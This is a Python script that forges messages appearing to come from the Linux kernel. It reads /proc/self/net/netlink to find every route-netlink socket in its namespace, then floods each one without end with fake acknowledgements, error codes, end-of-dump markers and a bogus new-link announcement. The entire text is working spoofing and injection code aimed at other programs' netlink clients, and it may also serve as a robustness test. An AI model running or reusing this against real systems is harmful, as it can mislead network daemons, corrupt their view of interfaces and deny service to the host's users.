"""Sends messages as if from the kernel to every netlink socket of its network namespace, until it is killed.
usage: forge.py"""
import socket
import struct

NLMSG_ERROR, NLMSG_DONE, RTM_NEWLINK = 2, 3, 16
SEQUENCES = 64


def message(kind, flags, sequence, body):
    return struct.pack("=IHHII", 16 + len(body), kind, flags, sequence, 0) + body


def forged():
    """Acknowledgements, errors, ends of dumps and links that nobody has made."""
    for sequence in range(SEQUENCES):
        for error in (0, -1, -17):
            yield message(NLMSG_ERROR, 0, sequence, struct.pack("=i", error) + bytes(16))
        yield message(NLMSG_DONE, 2, sequence, struct.pack("=i", 0))
        name = struct.pack("=HH", 9, 3) + b"net1\0\0\0\0"
        yield message(RTM_NEWLINK, 2, sequence, struct.pack("=BBHiII", 0, 0, 1, 4242, 1, 0) + name)


def ports():
    """Of all NETLINK_ROUTE sockets here but our own and the kernel's."""
    with open("/proc/self/net/netlink", encoding="ascii") as table:
        rows = [line.split() for line in table][1:]
    return {int(row[2]) for row in rows if row[1] == "0"} - {0, own.getsockname()[0]}


own = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
own.bind((0, 0))
sent = 0
while True:
    for port in ports():
        for one in forged():
            try:
                own.sendto(one, socket.MSG_DONTWAIT, (port, 0))
                sent += 1
            except OSError:
                break
    if sent > 0:
        print(sent, flush=True)
        sent = 0
